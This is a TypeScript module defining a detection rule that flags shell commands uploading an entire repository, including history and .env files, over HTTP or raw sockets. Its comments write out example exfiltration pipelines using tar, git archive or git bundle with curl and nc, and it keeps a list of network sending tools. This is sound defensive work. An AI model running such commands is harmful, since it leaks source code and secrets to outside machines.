/**
 * Blind corpus 9: the whole repository (its history, its untracked .env files) uploaded over HTTP or a raw
 * socket, as an archive on a pipe (`tar czf - . | curl -T - URL`, `git archive HEAD | nc h p`) or as an archive
 * file made first (`git bundle create /tmp/r --all && curl -T /tmp/r URL`). Copies to an ssh host (`rsync -a ./
 * h:/srv/app`, `scp -r`, `tar c . | ssh h tar x`) are deployment by this project's policy (its corpora say so) and
 * stay allowed, as does uploading a part of the tree (`dist/`, one file).
 */
import type { Invocation } from '../shell/invocation.js';
import { isWithin, resolveLexical } from '../paths.js';
import type { Rule, RuleContext } from './types.js';

/** Commands that carry their stdin, or a file they are given, to another machine (ssh: see above). */
const STDIN_SENDERS = new Set(['nc', 'ncat', 'netcat', 'socat', 'telnet']);
const HTTP_SENDERS = new Set(['curl', 'wget', 'http', 'https', 'xh']);
/** curl/wget options whose value is a payload (`@file`, `-` for stdin, or a form field `name=@file`). */
const PAYLOAD = /^(?:-T|--upload-file|-d|--data|--data-binary|--data-raw|-F|--form|--post-file|--body-file)$/;

const values = (inv: Invocation) => inv.args.map((a) => a.value ?? '');

/** Is `p` (as the invocation would open it) the workspace itself, its .git, or a directory holding the workspace? */
function wholeRepo(p: string, inv: Invocation, ctx: RuleContext): boolean {
  const abs = resolveLexical(p.replace(/\/+$/, '') || '/', { cwd: inv.cwd, home: ctx.home });
  const ws = ctx.workspace;
  return abs === ws || abs === `${ws}/.git` || (abs !== '/' && isWithin(ws, abs));
}

/** What archives the whole repository, and to which file (`-` or null for stdout). */
function archiveOf(inv: Invocation, ctx: RuleContext): { what: string; file: string | null } | null {
  const v = values(inv);
  if (inv.name === 'git') {
    const sub = v.find((x) => !x.startsWith('-'));
    if (sub === 'archive') {
      const o = v.findIndex((x) => x === '-o' || x === '--output' || x.startsWith('--output='));
      const file = o === -1 ? null : v[o]!.startsWith('--output=') ? v[o]!.slice(9) : (v[o + 1] ?? null);
      return { what: 'git archive', file: outFile(inv) ?? file };
    }
    if (sub === 'bundle' && v.includes('create')) {
      const file = v[v.indexOf('create') + 1] ?? null;
      return { what: 'git bundle', file: file === '-' ? null : file };
    }
    return null;
  }
  if (inv.name === 'tar' || inv.name === 'bsdtar') {
    const first = v[0] ?? '';
    const creates = v.includes('--create') || /^-?[A-Za-z]*c[A-Za-z]*$/.test(first);
    if (!creates) return null;
    const f = v.findIndex((x, i) => x === '-f' || x === '--file' || (i === 0 && /^-?[A-Za-z]*f$/.test(x)));
    const file = f === -1 ? null : (v[f + 1] ?? null);
    const ops = v.filter((x, i) => i !== f + 1 && i !== 0 && !x.startsWith('-'));
    if (!ops.some((x) => wholeRepo(x, inv, ctx))) return null;
    return { what: 'tar of the workspace', file: file === '-' ? null : (file ?? outFile(inv)) };
  }
  if (inv.name === 'zip' && v.some((x) => /^-[a-zA-Z]*r/.test(x))) {
    const ops = v.filter((x) => !x.startsWith('-'));
    if (!ops.slice(1).some((x) => wholeRepo(x, inv, ctx))) return null;
    return { what: 'zip of the workspace', file: ops[0] === '-' ? null : (ops[0] ?? null) };
  }
  return null;
}

/** The file a command's stdout is redirected to, if any. */
function outFile(inv: Invocation): string | null {
  const r = inv.redirs.find((x) => (x.fd === null || x.fd === '1') && (x.op === '>' || x.op === '>>'));
  return r?.target ? r.target.raw : null;
}

/** Does `inv` send its stdin over the network (`ssh h 'cat > x'`, `nc h p`, `curl -T -`, `curl --data-binary @-`)? */
function sendsStdin(inv: Invocation): boolean {
  if (STDIN_SENDERS.has(inv.name)) return true;
  if (!HTTP_SENDERS.has(inv.name)) return false;
  const v = values(inv);
  return v.some((x, i) => PAYLOAD.test(x) && /^(?:-|@-|[\w.-]+=@-|[\w.-]+=<-)$/.test(v[i + 1] ?? ''));
}

/** Does `inv` send the file `file` over the network? */
function sendsFile(inv: Invocation, file: string, ctx: RuleContext): boolean {
  const abs = resolveLexical(file, { cwd: inv.cwd, home: ctx.home });
  const same = (p: string) => resolveLexical(p, { cwd: inv.cwd, home: ctx.home }) === abs;
  const v = values(inv);
  if (HTTP_SENDERS.has(inv.name))
    return v.some((x, i) => {
      if (!PAYLOAD.test(x)) return false;
      const val = (v[i + 1] ?? '').replace(/^[\w.-]*=?[@<]/, '');
      return same(val);
    });
  if (STDIN_SENDERS.has(inv.name))
    return inv.redirs.some((r) => r.op === '<' && r.target !== null && same(r.target.raw));
  return false;
}

function sendsWorkspace(inv: Invocation, ctx: RuleContext): string | false {
  // an archive on the pipe into a sender
  if (sendsStdin(inv)) {
    for (const up of inv.upstream) {
      const a = archiveOf(up, ctx);
      if (a && a.file === null) return `${a.what} | ${inv.name}`;
    }
  }
  // an archive file made in the same command, then sent
  for (const other of ctx.script ?? []) {
    if (other === inv) break;
    const a = archiveOf(other, ctx);
    if (a?.file && sendsFile(inv, a.file, ctx)) return `${a.what} ${a.file}, sent by ${inv.name}`;
  }
  return false;
}

export const workspaceExfilRules: Rule[] = [
  {
    id: 'exfil.workspace-copy',
    pack: 'exfil',
    reason:
      'sends the whole repository (history, untracked files such as .env) to another machine; send only the files that are needed, or ask the user',
    commands: [...STDIN_SENDERS, ...HTTP_SENDERS],
    match: sendsWorkspace,
  },
];
